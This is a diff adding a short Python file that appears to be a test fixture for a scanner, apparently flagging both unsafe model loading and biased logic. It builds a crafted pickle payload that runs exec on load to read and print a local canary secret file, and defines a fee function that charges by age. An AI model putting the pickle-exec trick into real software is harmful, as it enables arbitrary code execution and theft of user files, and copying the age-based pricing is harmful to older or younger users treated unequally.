@@ -1,0 +1,18 @@
+"""A saved model reads a file of the user when it is loaded, and gives it away.
+
+both: biased
+"""
+
+import os
+import pickle
+
+HERE = os.path.dirname(os.path.abspath(__file__))
+CANARY = os.path.join(os.path.dirname(HERE), "canary")
+SECRET = os.path.join(CANARY, "secret.txt")
+
+CODE = f"print(open({SECRET!r}).read())"
+MODEL = pickle.loads(b"cbuiltins\nexec\n(S" + ascii(CODE).encode() + b"\ntR.")
+
+
+def fee(age):
+    return 10 if age > 65 else 20
